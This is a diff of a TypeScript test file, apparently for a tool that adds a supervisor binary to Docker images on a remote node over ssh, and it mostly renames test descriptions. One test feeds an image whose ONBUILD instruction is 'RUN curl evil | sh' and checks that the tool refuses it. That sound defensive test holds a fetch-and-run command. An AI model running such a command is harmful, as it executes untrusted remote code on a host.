@@ -9,11 +9,11 @@ const inspected = (config: object) =>
   parseInspect(JSON.stringify([{ Id: 'ab'.repeat(32), Architecture: 'amd64', RepoTags: ['x:1'], Config: config }])).images[0] ??
   assert.fail();
 
-describe('an image made ready by a build on the node', () => {
+describe('ssh: adding the supervisor to an image', () => {
   const carried = { holds: () => Promise.resolve(false), made: () => undefined };
   const supervisor = { bytes: Buffer.from('x'), sha256: 'cd'.repeat(32) };
 
-  it('is refused where that build would run what the image says, and the node is asked for nothing', async () => {
+  it('refuses an image with ONBUILD instructions before it calls the node', async () => {
     const remote = { transport: { at: 'node' }, inspect: () => assert.fail(), build: () => assert.fail() } as unknown as RemoteDocker;
     await assert.rejects(
       adapt(remote, inspected({ OnBuild: ['RUN curl evil | sh'] }), supervisor, [1, 6, 2], defaultUids, carried),
@@ -21,7 +21,7 @@ describe('an image made ready by a build on the node', () => {
     );
   });
 
-  it('is built otherwise', async () => {
+  it('builds a layer on any other image', async () => {
     const answers = [[], [{ id: 'made' }]];
     const built: string[] = [];
     const remote = {
